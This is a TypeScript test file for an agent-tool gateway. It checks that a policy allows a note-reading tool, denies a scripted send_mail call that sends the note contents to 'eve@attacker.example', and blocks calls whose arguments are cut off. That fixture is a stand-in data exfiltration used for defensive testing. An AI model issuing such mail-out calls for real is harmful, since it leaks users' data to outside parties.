@@ -1,0 +1,382 @@
+// The matrix: every client, buffered and streamed, against a scripted upstream, by whatever way there is to it.
+
+import { inspect } from 'node:util'
+import { describe, expect, it } from 'vitest'
+import { CLIENTS, openToolbox, type AgentClient, type Outcome, type Ran } from './clients.ts'
+import { startUpstream, type Step, type Upstream } from './upstream.ts'
+
+/** An error, or what some clients give in its place: the event of a stream that says so. */
+function expectError(error: unknown): void {
+  if (!(error instanceof Error)) expect(inspect(error)).toMatch(/UPSTREAM_LOST|went away/)
+}
+
+/** A way to an upstream, as clients are told of it. */
+export interface Door {
+  /** The base URL for clients of OpenAI, with `/v1`. */
+  readonly openai: string
+  /** The base URL for `@anthropic-ai/sdk`, which adds `/v1` by itself. */
+  readonly anthropicRoot: string
+  /** The base URL for `@ai-sdk/anthropic`, with `/v1`. */
+  readonly anthropicV1: string
+  readonly key: string
+  close(): Promise<void>
+}
+
+export type Through = (upstream: Upstream) => Promise<Door>
+
+/** What came of running one client once. */
+interface Seen {
+  readonly client: AgentClient
+  readonly stream: boolean
+  readonly outcome: Outcome | undefined
+  /** What the loop ended with if it did not come to its end. */
+  readonly error: unknown
+  readonly ran: readonly Ran[]
+  readonly upstream: Upstream
+  readonly door: Door
+}
+
+interface Case {
+  readonly title: string
+  readonly steps: readonly Step[]
+  readonly retries?: number
+  /** Both, unless it says otherwise. */
+  readonly modes?: readonly ('buffered' | 'streamed')[]
+  /** Whether most of it is waiting, so that all clients may wait together. */
+  readonly waits?: boolean
+  check(seen: Seen): void | Promise<void>
+}
+
+const MAIL_ID = 'call_0mail0mail0mail0mail0'
+const ADDRESS = 'eve@attacker.example'
+const LAST_WORD = 'All done: milk and bread.'
+
+const READ = { name: 'read_note', args: { name: 'list' } }
+const READ_OTHER = { name: 'read_note', args: { name: 'other list' } }
+const MAIL = { id: MAIL_ID, name: 'send_mail', args: { to: ADDRESS, text: 'milk, bread' } }
+const DONE: Step = { text: LAST_WORD }
+
+const ALLOWED: readonly Case[] = [
+  {
+    title: 'one call, then the last word',
+    steps: [{ text: 'Let me see.', calls: [READ] }, DONE],
+    check: (seen) => expectDone(seen, [READ]),
+  },
+  {
+    title: 'a thought, then a call',
+    steps: [{ reasoning: 'There is a note.', text: 'Let me see.', calls: [READ] }, DONE],
+    check: (seen) => expectDone(seen, [READ]),
+  },
+  {
+    title: 'parallel calls, and words after them',
+    steps: [{ calls: [READ, READ_OTHER], thenText: 'Both.' }, DONE],
+    check: (seen) => expectDone(seen, [READ, READ_OTHER]),
+  },
+  {
+    title: 'parallel calls by turns',
+    modes: ['streamed'],
+    steps: [{ text: 'Both.', calls: [READ, READ_OTHER], interleave: true }, DONE],
+    check: (seen) => expectDone(seen, [READ, READ_OTHER]),
+  },
+  {
+    title: 'all in one chunk',
+    steps: [{ text: 'Let me see.', calls: [READ, READ_OTHER], chunks: 'whole' }, DONE],
+    check: (seen) => expectDone(seen, [READ, READ_OTHER]),
+  },
+  {
+    title: 'byte by byte',
+    modes: ['streamed'],
+    steps: [{ text: 'Let me see: ☂.', calls: [READ], chunks: 'bytes' }, DONE],
+    check: (seen) => expectDone(seen, [READ]),
+  },
+  {
+    title: 'gzip',
+    steps: [
+      { text: 'Let me see.', calls: [READ], gzip: true },
+      { text: LAST_WORD, gzip: true },
+    ],
+    check: (seen) => expectDone(seen, [READ]),
+  },
+  {
+    title: 'too many requests, then a reply: the client asks again by itself',
+    retries: 1,
+    waits: true,
+    steps: [{ status: 429, retryAfterMs: 5 }, { calls: [READ] }, DONE],
+    check(seen) {
+      expectDone(seen, [READ])
+      expect(seen.upstream.requests).toHaveLength(3)
+    },
+  },
+  {
+    title: 'an upstream that fails: the client learns with which status',
+    steps: [{ status: 503 }],
+    check({ outcome, error, ran }) {
+      expect(outcome).toBeUndefined()
+      expect(statusOf(error)).toBe(503)
+      expect(ran).toEqual([])
+    },
+  },
+  {
+    title: 'a connection that breaks amid the arguments: an error, and nothing ran',
+    steps: [{ text: 'Let me see.', calls: [READ], dieAfter: 'arguments' }],
+    async check({ outcome, error, ran, upstream }) {
+      expect(outcome).toBeUndefined()
+      expectError(error)
+      expect(ran).toEqual([])
+      expect(upstream.requests).toHaveLength(1)
+      expect(await upstream.requests[0]?.ended).toBe('died')
+    },
+  },
+]
+
+/** Defines the cases in which every call is allowed. They hold with a gateway between, and without. */
+export function allowedCases(through: Through): void {
+  defineCases(through, ALLOWED)
+}
+
+const CUT: Case['steps'] = [{ text: 'Let me see.', calls: [{ ...READ, cutAt: '{"name":"li'.length }] }, DONE]
+
+const UNGOVERNED: readonly Case[] = [
+  {
+    title: 'any call runs',
+    steps: [{ calls: [READ, MAIL] }, DONE],
+    check: (seen) => expectDone(seen, [READ, MAIL]),
+  },
+  {
+    // What is cut is completed by guessing, and run: one reason not to hand on such calls.
+    title: 'cut amid the arguments: some clients run what they make of them',
+    steps: CUT,
+    check({ client, stream, ran, upstream }) {
+      const guesses = client.name.startsWith('langchain') && stream
+      expect(ran).toEqual(guesses ? [{ name: 'read_note', args: { name: 'li' } }] : [])
+      expectSound(upstream, stream)
+    },
+  },
+]
+
+/** Defines the cases that show what happens where nobody judges. */
+export function ungovernedCases(through: Through): void {
+  defineCases(through, UNGOVERNED)
+}
+
+/**
+ * Defines all cases of a gateway whose policy allows `read_note`, and denies `send_mail`. `refusal` is found in each text that
+ * stands in place of a call, and nowhere else.
+ */
+export function gatewayCases(through: Through, refusal: RegExp): void {
+  allowedCases(through)
+  defineCases(through, [...deniedCases(refusal), ...mixedCases(refusal), ...cutCases(refusal)])
+}
+
+function deniedCases(refusal: RegExp): readonly Case[] {
+  const check = (seen: Seen): void => {
+    expect(seen.error).toBeUndefined()
+    expect(seen.outcome?.text).toMatch(refusal)
+    expect(seen.outcome?.turns).toBe(1)
+    expect(seen.ran).toEqual([])
+    expect(seen.upstream.requests).toHaveLength(1)
+    expectKept(seen)
+  }
+  return [
+    {
+      title: 'denied: the loop ends with the refusal',
+      steps: [{ text: 'Let me see.', calls: [MAIL] }],
+      check(seen) {
+        check(seen)
+        expect(seen.outcome?.text).toContain('Let me see.')
+      },
+    },
+    { title: 'denied, with nothing else in the reply', steps: [{ calls: [MAIL] }], check },
+    {
+      title: 'denied after a thought, with words after it',
+      steps: [{ reasoning: 'They want a mail.', calls: [MAIL], thenText: 'Sent it.' }],
+      check(seen) {
+        check(seen)
+        expect(seen.outcome?.text).toContain('Sent it.')
+      },
+    },
+    {
+      title: 'denied, byte by byte',
+      modes: ['streamed'],
+      steps: [{ calls: [MAIL], chunks: 'bytes' }],
+      check,
+    },
+    { title: 'denied, in gzip', steps: [{ calls: [MAIL], gzip: true }], check },
+    {
+      title: 'a connection that breaks amid the arguments of a denied call',
+      steps: [{ text: 'Let me see.', calls: [MAIL], dieAfter: 'arguments' }],
+      check(seen) {
+        expect(seen.outcome).toBeUndefined()
+        expectError(seen.error)
+        expect(seen.ran).toEqual([])
+        expectKept(seen)
+      },
+    },
+  ]
+}
+
+function mixedCases(refusal: RegExp): readonly Case[] {
+  const check = (seen: Seen): void => {
+    expectDone(seen, [READ])
+    expectKept(seen)
+    // A client that only refers to what the provider has stored cannot tell it what it has not.
+    if (seen.client.name !== 'ai, @ai-sdk/openai') expect(saidTo(seen.upstream)).toMatch(refusal)
+  }
+  return [
+    { title: 'mixed: one runs, the other does not', steps: [{ calls: [READ, MAIL] }, DONE], check },
+    {
+      title: 'mixed, the denied one first, with words around',
+      steps: [{ text: 'Let me see.', calls: [MAIL, READ], thenText: 'There.' }, DONE],
+      check,
+    },
+    {
+      title: 'mixed, after a thought',
+      steps: [{ reasoning: 'A note and a mail.', calls: [READ, MAIL] }, DONE],
+      check,
+    },
+    {
+      title: 'mixed, by turns',
+      modes: ['streamed'],
+      steps: [{ text: 'Both.', calls: [MAIL, READ], interleave: true }, DONE],
+      check,
+    },
+    {
+      title: 'mixed, byte by byte',
+      modes: ['streamed'],
+      steps: [{ calls: [READ, MAIL], interleave: true, chunks: 'bytes' }, DONE],
+      check,
+    },
+  ]
+}
+
+function cutCases(refusal: RegExp): readonly Case[] {
+  return [
+    {
+      title: 'cut amid the arguments: refused, and nothing ran',
+      steps: CUT,
+      check(seen) {
+        expect(seen.ran).toEqual([])
+        // One client takes every reply that was cut for an error, whatever it holds.
+        if (seen.error === undefined) expect(seen.outcome?.text).toMatch(refusal)
+        else expect(nameOf(seen.error)).toBe('LengthFinishReasonError')
+        expect(seen.upstream.requests).toHaveLength(1)
+        expectKept(seen)
+      },
+    },
+    {
+      title: 'cut in the second call: it does not run, whatever becomes of the first',
+      steps: [{ calls: [READ, { ...MAIL, cutAt: '{"to":"eve@attacker.example"'.length }] }, DONE],
+      check(seen) {
+        expect(seen.ran.filter(({ name }) => name !== READ.name)).toEqual([])
+        expectKept(seen)
+      },
+    },
+  ]
+}
+
+function defineCases(through: Through, cases: readonly Case[]): void {
+  for (const { title, ...one } of cases) {
+    const group = one.waits === true ? describe.concurrent : describe
+    group(title, () => {
+      for (const client of CLIENTS) {
+        for (const mode of one.modes ?? ['buffered', 'streamed']) {
+          it(`${client.name}, ${mode}`, async () => {
+            await withUpstream(through, one.steps, async (upstream, door) => {
+              const stream = mode === 'streamed'
+              await one.check(await runOnce(client, { stream, retries: one.retries ?? 0, upstream, door }))
+            })
+          })
+        }
+      }
+    })
+  }
+}
+
+async function withUpstream(
+  through: Through,
+  steps: readonly Step[],
+  use: (upstream: Upstream, door: Door) => Promise<void>,
+): Promise<void> {
+  const upstream = await startUpstream(...steps)
+  try {
+    const door = await through(upstream)
+    try {
+      await use(upstream, door)
+    } finally {
+      await door.close()
+    }
+  } finally {
+    await upstream.close()
+  }
+}
+
+interface Setting {
+  readonly stream: boolean
+  readonly retries: number
+  readonly upstream: Upstream
+  readonly door: Door
+}
+
+async function runOnce(client: AgentClient, { stream, retries, upstream, door }: Setting): Promise<Seen> {
+  const tools = openToolbox()
+  const seen = { client, stream, ran: tools.ran, upstream, door }
+  try {
+    const outcome = await client.run(door[client.base], door.key, { stream, tools, retries })
+    return { ...seen, outcome, error: undefined }
+  } catch (error) {
+    return { ...seen, outcome: undefined, error }
+  }
+}
+
+/** The loop came to its end, exactly these tools ran, and their results came to the upstream. */
+function expectDone(seen: Seen, calls: readonly Ran[]): void {
+  expect(seen.error).toBeUndefined()
+  expect(seen.outcome?.text).toBe(LAST_WORD)
+  expect(seen.outcome?.turns).toBe(2)
+  // A client may run what comes together in any order.
+  expect(sorted(seen.ran)).toEqual(sorted(calls.map(({ name, args }) => ({ name, args }))))
+  expect(seen.upstream.left).toBe(0)
+  expect(saidTo(seen.upstream)).toContain('milk, bread')
+  expectSound(seen.upstream, seen.stream)
+}
+
+/** The upstream found nothing wrong with what it got, and was asked as the client was. */
+function expectSound(upstream: Upstream, stream: boolean): void {
+  expect(upstream.requests.map(({ objection }) => objection).filter((one) => one !== undefined)).toEqual([])
+  expect(upstream.requests.map(({ body }) => body.stream === true)).toEqual(
+    upstream.requests.map(() => stream),
+  )
+}
+
+/** What the client must not have stayed away from it, and what the upstream must not have from that. */
+function expectKept({ outcome, error, upstream, door }: Seen): void {
+  expect(outcome?.text ?? '').not.toContain(ADDRESS)
+  expect(inspect(error, { depth: 8 })).not.toContain(ADDRESS)
+  for (const { text, headers, body, objection } of upstream.requests) {
+    expect(objection).toBeUndefined()
+    expect(text).not.toContain(MAIL_ID)
+    expect(text).not.toContain(ADDRESS)
+    // The token of an agent is for the gateway, and a conversation that the provider holds is not seen by it.
+    expect(JSON.stringify(headers)).not.toContain(door.key)
+    expect(body).not.toHaveProperty('thread')
+  }
+}
+
+/** All that the newest request says. */
+function saidTo(upstream: Upstream): string {
+  return JSON.stringify(upstream.requests.at(-1)?.body ?? {})
+}
+
+function sorted(ran: readonly Ran[]): readonly string[] {
+  return ran.map((one) => JSON.stringify(one)).sort()
+}
+
+function nameOf(error: unknown): string {
+  return error instanceof Error ? error.constructor.name : ''
+}
+
+function statusOf(error: unknown): unknown {
+  if (typeof error !== 'object' || error === null) return undefined
+  if ('status' in error && typeof error.status === 'number') return error.status
+  return 'statusCode' in error ? error.statusCode : undefined
+}
